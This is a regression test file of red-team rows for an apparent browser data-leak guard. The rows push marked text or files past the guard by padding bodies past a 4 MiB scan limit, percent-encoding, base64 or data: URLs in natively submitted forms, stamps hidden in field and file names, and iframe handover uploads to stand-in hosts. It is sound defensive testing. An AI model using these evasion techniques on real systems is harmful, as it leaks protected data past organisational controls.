/**
 * Red team web5 (round 5, upload techniques) findings 1 to 5 on the page side (the page hooks and the
 * guard, without the network layer: Chromium here loads the extension unpacked, so its blocking
 * `webRequest` listener is never called). Each row let its marked text through before the fix
 * (docs/page-channels.md):
 * 1. a text body judged on its first 4 MiB only: a stamp after 4 MiB of a log by fetch, XHR or a FormData
 *    field (a WebSocket message of 4 MB does not reach this test server, even from the control host, and
 *    a native form's 4 MB textarea is held but its warning shows too late for this harness under load:
 *    those rows are left out; test/unit/hook-items.test.ts reads such a text);
 * 2. percent-escapes (`encodeURIComponent`, also repeated) in a body that is not a URL-encoded form:
 *    text/plain, JSON values, FormData fields, `sendBeacon`, WebSocket messages;
 * 3. a form the browser submits itself (`requestSubmit()`, its button, Enter) judged as the plain text of
 *    its fields: base64, a `data:` URL of a stamped file, JSON `\u` escapes, percent-escapes;
 * 4. the stamp as a field's name: a URL-encoded key, a multipart file name (not a rule-2 name);
 * 5. a File handed by postMessage to a frame on an `allow`ed host inside the guarded page, which uploads it.
 * And (web12) a data: URL read out of a File marked by its name alone (content clean), put into a field of
 * a form the browser submits: the guard reads the field's text and did not know which File it came from
 * (the page hooks' read-text.ts does); the hooks now add that File to the form's entry list
 * (hooks/form-submit.ts), and the guard refuses it by its name.
 * Copied from the red team's rows (/work/scratch/hunt/web5/round5.ts), ids kept.
 */
import type { Technique } from '../harness.js';
import { reachedDecoded as reachedDecodedBy } from '../harness.js';

/** Arrived when the nonce is in the text or in any base64 the text holds. */
const reachedDecoded = reachedDecodedBy();


/** A frame page (any host) that uploads what it is handed: a File by postMessage, or a blob: URL string. */
const FRAME_UPLOADER = `<!doctype html><meta charset="utf-8"><script>
addEventListener('message', async (e) => {
  const d = e.data || {};
  let body = d.file;
  if (d.blobUrl) body = await (await fetch(d.blobUrl)).blob();
  const fd = new FormData();
  fd.append('file', body, d.name || 'upload.bin');
  const r = await fetch(d.dest, { method: 'POST', body: fd }).then((r) => r.status, (err) => String(err));
  e.source && e.source.postMessage({ done: r, nonce: d.nonce }, '*');
});
window.go = async (blobUrl, dest, name) => {
  const b = await (await fetch(blobUrl)).blob();
  const fd = new FormData();
  fd.append('file', b, name);
  return fetch(dest, { method: 'POST', body: fd }).then((r) => r.status, (err) => String(err));
};
</script>`;

/** Text past the 4 MiB one scan reads (finding 1). */
const BIG_ROWS: Technique[] = [
  {
    id: 'r5-big-fetch-text',
    title: 'fetch POST text/plain of 4.2 MB (a log) whose last line is the text',
    carries: ['text'],
    reached: (arrivals, p) => arrivals.some((a) => (a.text ?? '').includes(p.nonce)),
    run: (p, t) => {
      const log = '2026-01-05 09:00:00 INFO line 3 sensor 42 reading within range\n'.repeat(68_000);
      return t.settle(fetch(t.url('r5-big-fetch-text'), { method: 'POST', headers: { 'content-type': 'text/plain' }, body: log + p.text }));
    },
  },
  {
    id: 'r5-big-fetch-json',
    title: 'fetch POST JSON of 4.2 MB ({ log, note }) whose note is the text',
    carries: ['text'],
    reached: (arrivals, p) => arrivals.some((a) => (a.text ?? '').includes(p.nonce)),
    run: (p, t) => {
      const log = '2026-01-05 09:00:00 INFO line 3 sensor 42 reading within range\n'.repeat(68_000);
      return t.settle(fetch(t.url('r5-big-fetch-json'), { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ log, note: p.text }) }));
    },
  },
  {
    id: 'r5-big-formdata-field',
    title: 'fetch POST FormData whose text field is 4.2 MB (a log) ending with the text',
    carries: ['text'],
    reached: (arrivals, p) => arrivals.some((a) => (a.text ?? '').includes(p.nonce)),
    run: (p, t) => {
      const log = '2026-01-05 09:00:00 INFO line 3 sensor 42 reading within range\n'.repeat(68_000);
      const fd = new FormData();
      fd.append('text', log + p.text);
      return t.settle(fetch(t.url('r5-big-formdata-field'), { method: 'POST', body: fd }));
    },
  },
  {
    id: 'r5-big-xhr-text',
    title: 'XMLHttpRequest POST of a 4.2 MB string ending with the text',
    carries: ['text'],
    reached: (arrivals, p) => arrivals.some((a) => (a.text ?? '').includes(p.nonce)),
    run: (p, t) =>
      new Promise((resolve) => {
        const log = '2026-01-05 09:00:00 INFO line 3 sensor 42 reading within range\n'.repeat(68_000);
        const x = new XMLHttpRequest();
        x.open('POST', t.url('r5-big-xhr-text'));
        x.setRequestHeader('content-type', 'text/plain');
        x.onloadend = resolve;
        x.send(log + p.text);
      }),
  },
  {
    id: 'r5-big-just-over',
    title: 'fetch POST text/plain: 4 MiB + 100 characters of filler, then the text',
    carries: ['text'],
    reached: (arrivals, p) => arrivals.some((a) => (a.text ?? '').includes(p.nonce)),
    run: (p, t) => t.settle(fetch(t.url('r5-big-just-over'), { method: 'POST', headers: { 'content-type': 'text/plain' }, body: 'a'.repeat(4 * 1024 * 1024 + 100) + ' ' + p.text })),
  },
  {
    id: 'r5-big-start-fetch-text',
    title: 'sanity: fetch POST text/plain of 4.2 MB whose FIRST line is the text',
    carries: ['text'],
    reached: (arrivals, p) => arrivals.some((a) => (a.text ?? '').includes(p.nonce)),
    run: (p, t) => {
      const log = '2026-01-05 09:00:00 INFO line 3 sensor 42 reading within range\n'.repeat(68_000);
      return t.settle(fetch(t.url('r5-big-start-fetch-text'), { method: 'POST', headers: { 'content-type': 'text/plain' }, body: p.text + '\n' + log }));
    },
  },
];

/** Percent-escaped text in bodies that are not URL-encoded forms (finding 2). */
const PERCENT_ROWS: Technique[] = [
  {
    id: 'r5-pct-text-plain',
    title: 'fetch POST text/plain whose body is encodeURIComponent(text)',
    carries: ['text'],
    reached: (arrivals, p) => arrivals.some((a) => (a.text ?? '').includes(p.nonce)),
    run: (p, t) => t.settle(fetch(t.url('r5-pct-text-plain'), { method: 'POST', headers: { 'content-type': 'text/plain' }, body: encodeURIComponent(p.text) })),
  },
  {
    id: 'r5-fetch-json-percent',
    title: 'fetch POST JSON whose field is the text percent-encoded once (encodeURIComponent)',
    carries: ['text'],
    reached: (arrivals, p) => arrivals.some((a) => (a.text ?? '').includes(p.nonce)),
    run: (p, t) => t.settle(fetch(t.url('r5-fetch-json-percent'), { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ q: encodeURIComponent(p.text) }) })),
  },
  {
    id: 'r5-pct-xhr-json',
    title: 'XMLHttpRequest POST JSON { q: encodeURIComponent(text) } (as many SPA clients double-encode)',
    carries: ['text'],
    reached: (arrivals, p) => arrivals.some((a) => (a.text ?? '').includes(p.nonce)),
    run: (p, t) =>
      new Promise((resolve) => {
        const x = new XMLHttpRequest();
        x.open('POST', t.url('r5-pct-xhr-json'));
        x.setRequestHeader('content-type', 'application/json');
        x.onloadend = resolve;
        x.send(JSON.stringify({ q: encodeURIComponent(p.text) }));
      }),
  },
  {
    id: 'r5-pct-formdata-field',
    title: 'fetch POST FormData whose text field is encodeURIComponent(text)',
    carries: ['text'],
    reached: (arrivals, p) => arrivals.some((a) => (a.text ?? '').includes(p.nonce)),
    run: (p, t) => {
      const fd = new FormData();
      fd.append('q', encodeURIComponent(p.text));
      return t.settle(fetch(t.url('r5-pct-formdata-field'), { method: 'POST', body: fd }));
    },
  },
  {
    id: 'r5-pct-beacon',
    title: 'sendBeacon of a string encodeURIComponent(text)',
    carries: ['text'],
    reached: (arrivals, p) => arrivals.some((a) => (a.text ?? '').includes(p.nonce)),
    run: async (p, t) => { navigator.sendBeacon(t.url('r5-pct-beacon'), encodeURIComponent(p.text)); await t.sleep(400); },
  },
  {
    id: 'r5-pct-websocket',
    title: 'a WebSocket text frame holding JSON { q: encodeURIComponent(text) }',
    carries: ['text'],
    reached: (arrivals, p) => arrivals.some((a) => (a.text ?? '').includes(p.nonce)),
    run: async (p, t) => {
      const ws = new WebSocket(`wss://${location.host}/ws`);
      await new Promise((r, e) => ((ws.onopen = r), (ws.onerror = e)));
      ws.send(JSON.stringify({ q: encodeURIComponent(p.text) }));
      await t.sleep(400);
      ws.close();
    },
  },
  {
    id: 'r5-fetch-urlsearchparams-2x',
    title: 'fetch POST with a URLSearchParams body holding the text percent-escaped once more (twice in all)',
    carries: ['text'],
    reached: (arrivals, p) => arrivals.some((a) => {
      let s = a.text ?? '';
      for (let i = 0; i < 4; i++) try { s = decodeURIComponent(s.replace(/\+/g, ' ')); } catch { /* */ }
      return s.includes(p.nonce);
    }),
    run: (p, t) => t.settle(fetch(t.url('r5-fetch-urlsearchparams-2x'), { method: 'POST', body: new URLSearchParams({ q: encodeURIComponent(p.text) }) })),
  },
  {
    id: 'r5-fetch-urlsearchparams',
    title: 'fetch POST with a URLSearchParams body holding the text 3 times percent-escaped as one field',
    carries: ['text'],
    reached: (arrivals, p) => arrivals.some((a) => {
      let s = a.text ?? '';
      for (let i = 0; i < 4; i++) try { s = decodeURIComponent(s.replace(/\+/g, ' ')); } catch { /* */ }
      return s.includes(p.nonce);
    }),
    run: (p, t) => t.settle(fetch(t.url('r5-fetch-urlsearchparams'), { method: 'POST', body: new URLSearchParams({ q: encodeURIComponent(encodeURIComponent(p.text)) }) })),
  },
];

/** Forms the browser submits itself, with encoded fields (finding 3). */
const NATIVE_FORM_ROWS: Technique[] = [
  {
    id: 'r5-file-dataurl-native-form',
    title: 'readAsDataURL(file), the data: URL put in a textarea of a multipart form, posted natively (requestSubmit, hidden frame)',
    carries: ['file'],
    reached: reachedDecoded,
    run: async (p, t) => {
      const reader = new FileReader();
      const read = new Promise((r) => (reader.onload = r));
      reader.readAsDataURL(t.file(p));
      await read;
      const frame = Object.assign(document.createElement('iframe'), { name: `r5d-${p.nonce}`, hidden: true });
      const form = Object.assign(document.createElement('form'), { method: 'post', enctype: 'multipart/form-data', action: t.url('r5-file-dataurl-native-form'), target: frame.name });
      form.append(Object.assign(document.createElement('textarea'), { name: 'data', value: reader.result as string }));
      document.body.append(frame, form);
      const loaded = new Promise((r) => frame.addEventListener('load', r, { once: true }));
      form.requestSubmit();
      await Promise.race([loaded, t.sleep(10_000)]); // the guard reads the fields first: the form stays until its frame loads
      form.remove();
      frame.remove();
    },
  },
  {
    id: 'r5-nf-dataurl-urlencoded',
    title: 'readAsDataURL(file), the data: URL in a hidden input of a urlencoded form (the default), requestSubmit into a hidden frame',
    carries: ['file'],
    reached: reachedDecodedBy({ percent: true }),
    run: async (p, t) => {
      const reader = new FileReader();
      const read = new Promise((r) => (reader.onload = r));
      reader.readAsDataURL(t.file(p));
      await read;
      const frame = Object.assign(document.createElement('iframe'), { name: `r5u-${p.nonce}`, hidden: true });
      const form = Object.assign(document.createElement('form'), { method: 'post', action: t.url('r5-nf-dataurl-urlencoded'), target: frame.name });
      form.append(Object.assign(document.createElement('input'), { type: 'hidden', name: 'data', value: reader.result as string }));
      document.body.append(frame, form);
      const loaded = new Promise((r) => frame.addEventListener('load', r, { once: true }));
      form.requestSubmit();
      await Promise.race([loaded, t.sleep(10_000)]); // the guard reads the fields first: the form stays until its frame loads
      form.remove();
      frame.remove();
    },
  },
  {
    id: 'r5-nf-text-b64-multipart',
    title: 'the text as base64 of its UTF-8 in a hidden input of a multipart form, requestSubmit into a hidden frame',
    carries: ['text'],
    reached: reachedDecoded,
    run: async (p, t) => {
      const frame = Object.assign(document.createElement('iframe'), { name: `r5t-${p.nonce}`, hidden: true });
      const form = Object.assign(document.createElement('form'), { method: 'post', enctype: 'multipart/form-data', action: t.url('r5-nf-text-b64-multipart'), target: frame.name });
      form.append(Object.assign(document.createElement('input'), { type: 'hidden', name: 'note', value: btoa(unescape(encodeURIComponent(p.text))) }));
      document.body.append(frame, form);
      const loaded = new Promise((r) => frame.addEventListener('load', r, { once: true }));
      form.requestSubmit();
      await Promise.race([loaded, t.sleep(10_000)]); // the guard reads the fields first: the form stays until its frame loads
      form.remove();
      frame.remove();
    },
  },
  {
    id: 'r5-nf-text-json-escapes',
    title: 'the text as a JSON string with \\u escapes in a hidden input of a multipart form, requestSubmit into a hidden frame',
    carries: ['text'],
    reached: (arrivals, p) => arrivals.some((a) => { try { return (a.text ?? '').includes(p.nonce); } catch { return false; } }),
    run: async (p, t) => {
      const frame = Object.assign(document.createElement('iframe'), { name: `r5j-${p.nonce}`, hidden: true });
      const form = Object.assign(document.createElement('form'), { method: 'post', enctype: 'multipart/form-data', action: t.url('r5-nf-text-json-escapes'), target: frame.name });
      const json = JSON.stringify({ draft: p.text }).replace(/[^\x20-\x7e]/g, (c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}`);
      form.append(Object.assign(document.createElement('input'), { type: 'hidden', name: 'state', value: json }));
      document.body.append(frame, form);
      const loaded = new Promise((r) => frame.addEventListener('load', r, { once: true }));
      form.requestSubmit();
      await Promise.race([loaded, t.sleep(10_000)]); // the guard reads the fields first: the form stays until its frame loads
      form.remove();
      frame.remove();
    },
  },
  {
    id: 'r5-nf-text-percent',
    title: 'the text percent-encoded once (encodeURIComponent) in a hidden input of a multipart form, requestSubmit into a hidden frame',
    carries: ['text'],
    reached: (arrivals, p) => arrivals.some((a) => (a.text ?? '').includes(p.nonce)),
    run: async (p, t) => {
      const frame = Object.assign(document.createElement('iframe'), { name: `r5c-${p.nonce}`, hidden: true });
      const form = Object.assign(document.createElement('form'), { method: 'post', enctype: 'multipart/form-data', action: t.url('r5-nf-text-percent'), target: frame.name });
      form.append(Object.assign(document.createElement('input'), { type: 'hidden', name: 'q', value: encodeURIComponent(p.text) }));
      document.body.append(frame, form);
      const loaded = new Promise((r) => frame.addEventListener('load', r, { once: true }));
      form.requestSubmit();
      await Promise.race([loaded, t.sleep(10_000)]); // the guard reads the fields first: the form stays until its frame loads
      form.remove();
      frame.remove();
    },
  },
];

/** The text as a field name or a file name (finding 4). */
const NAME_ROWS: Technique[] = [
  {
    id: 'r5-key-urlsearchparams',
    title: 'fetch POST URLSearchParams whose field NAME is the text (value "1")',
    carries: ['text'],
    run: (p, t) => t.settle(fetch(t.url('r5-key-urlsearchparams'), { method: 'POST', body: new URLSearchParams([[p.text, '1']]) })),
  },
  {
    id: 'r5-key-nf-urlencoded',
    title: 'a native urlencoded form whose hidden input NAME is the text (value "1"), requestSubmit into a hidden frame',
    carries: ['text'],
    reached: (arrivals, p) => arrivals.some((a) => (a.text ?? '').includes(p.nonce)),
    run: async (p, t) => {
      const frame = Object.assign(document.createElement('iframe'), { name: `r5k-${p.nonce}`, hidden: true });
      const form = Object.assign(document.createElement('form'), { method: 'post', action: t.url('r5-key-nf-urlencoded'), target: frame.name });
      form.append(Object.assign(document.createElement('input'), { type: 'hidden', name: p.text, value: '1' }));
      document.body.append(frame, form);
      const loaded = new Promise((r) => frame.addEventListener('load', r, { once: true }));
      form.requestSubmit();
      await Promise.race([loaded, t.sleep(10_000)]); // the guard reads the fields first: the form stays until its frame loads
      form.remove();
      frame.remove();
    },
  },
  {
    id: 'r5-filename-formdata',
    title: 'fetch POST FormData: a clean Blob whose FILE NAME is the text + ".txt"',
    carries: ['text'],
    run: (p, t) => {
      const fd = new FormData();
      fd.append('file', new Blob(['hello']), `${p.text}.txt`);
      return t.settle(fetch(t.url('r5-filename-formdata'), { method: 'POST', body: fd }));
    },
  },
  {
    id: 'r5-filename-nf',
    title: 'a native multipart form: a file input holding a clean File named the text + ".txt" (DataTransfer), requestSubmit into a hidden frame',
    carries: ['text'],
    run: async (p, t) => {
      const frame = Object.assign(document.createElement('iframe'), { name: `r5n-${p.nonce}`, hidden: true });
      const form = Object.assign(document.createElement('form'), { method: 'post', enctype: 'multipart/form-data', action: t.url('r5-filename-nf'), target: frame.name });
      const input = Object.assign(document.createElement('input'), { type: 'file', name: 'file' });
      const dt = new DataTransfer();
      dt.items.add(new File(['hello'], `${p.text}.txt`, { type: 'text/plain' }));
      input.files = dt.files;
      form.append(input);
      document.body.append(frame, form);
      const loaded = new Promise((r) => frame.addEventListener('load', r, { once: true }));
      form.requestSubmit();
      await Promise.race([loaded, t.sleep(10_000)]); // the guard reads the fields first: the form stays until its frame loads
      form.remove();
      frame.remove();
    },
  },
];

/**
 * A File the guarded page hands by postMessage to a frame on an `allow`ed host, which uploads it (finding 5):
 * the frame is guarded by its top page's policy, so its upload is judged as the page's would be.
 */
const HANDOVER_ROWS: Technique[] = [
  {
    id: 'r5-file-postmessage-allowed-frame-own',
    assets: { '/asset/r5-frame.html': { type: 'text/html; charset=utf-8', body: FRAME_UPLOADER } },
    title: 'the File posted to an iframe on the allowed (unguarded) host, which uploads it to its own host',
    carries: ['file'],
    run: async (p, t) => {
      const f = document.createElement('iframe');
      f.hidden = true;
      f.src = `https://intranet.example.org:${location.port}/asset/r5-frame.html`;
      const loaded = new Promise((r) => f.addEventListener('load', r, { once: true }));
      document.body.append(f);
      await loaded;
      // The guard is put into a frame once it has committed (docs/page-channels.md: a frame can send
      // before that); this row is about the hand-over's decision, so the frame is given a moment first.
      await t.sleep(1500);
      const done = new Promise((r) => addEventListener('message', function h(e) { if (e.data?.nonce === p.nonce) { removeEventListener('message', h); r(e.data.done); } }));
      f.contentWindow!.postMessage({ file: t.file(p), dest: `https://intranet.example.org:${location.port}/upload?ch=r5-file-postmessage-allowed-frame-own`, nonce: p.nonce }, '*');
      const r = await Promise.race([done, t.sleep(4000)]);
      f.remove();
      return r;
    },
  },
  {
    id: 'r5-file-postmessage-allowed-frame-to-drive',
    assets: { '/asset/r5-frame.html': { type: 'text/html; charset=utf-8', body: FRAME_UPLOADER } },
    title: 'the File posted to an iframe on the allowed (unguarded) host, which uploads it to drive.google.com (a listed service) by CORS',
    carries: ['file'],
    run: async (p, t) => {
      const f = document.createElement('iframe');
      f.hidden = true;
      f.src = `https://intranet.example.org:${location.port}/asset/r5-frame.html`;
      const loaded = new Promise((r) => f.addEventListener('load', r, { once: true }));
      document.body.append(f);
      await loaded;
      // The guard is put into a frame once it has committed (docs/page-channels.md: a frame can send
      // before that); this row is about the hand-over's decision, so the frame is given a moment first.
      await t.sleep(1500);
      const done = new Promise((r) => addEventListener('message', function h(e) { if (e.data?.nonce === p.nonce) { removeEventListener('message', h); r(e.data.done); } }));
      f.contentWindow!.postMessage({ file: t.file(p), dest: `https://drive.google.com:${location.port}/upload?ch=r5-file-postmessage-allowed-frame-to-drive`, nonce: p.nonce }, '*');
      const r = await Promise.race([done, t.sleep(4000)]);
      f.remove();
      return r;
    },
  },
  {
    id: 'r5-file-postmessage-allowed-frame-to-unlisted',
    assets: { '/asset/r5-frame.html': { type: 'text/html; charset=utf-8', body: FRAME_UPLOADER } },
    title: 'the File posted to an iframe on the allowed host, which uploads it to the unlisted (guarded) host by CORS',
    carries: ['file'],
    run: async (p, t) => {
      const f = document.createElement('iframe');
      f.hidden = true;
      f.src = `https://intranet.example.org:${location.port}/asset/r5-frame.html`;
      const loaded = new Promise((r) => f.addEventListener('load', r, { once: true }));
      document.body.append(f);
      await loaded;
      // The guard is put into a frame once it has committed (docs/page-channels.md: a frame can send
      // before that); this row is about the hand-over's decision, so the frame is given a moment first.
      await t.sleep(1500);
      const done = new Promise((r) => addEventListener('message', function h(e) { if (e.data?.nonce === p.nonce) { removeEventListener('message', h); r(e.data.done); } }));
      f.contentWindow!.postMessage({ file: t.file(p), dest: `https://uploads.example.net:${location.port}/upload?ch=r5-file-postmessage-allowed-frame-to-unlisted`, nonce: p.nonce }, '*');
      const r = await Promise.race([done, t.sleep(4000)]);
      f.remove();
      return r;
    },
  },
];

const rows: Technique[] = [...BIG_ROWS, ...PERCENT_ROWS, ...NATIVE_FORM_ROWS, ...NAME_ROWS, ...HANDOVER_ROWS];

export default rows;
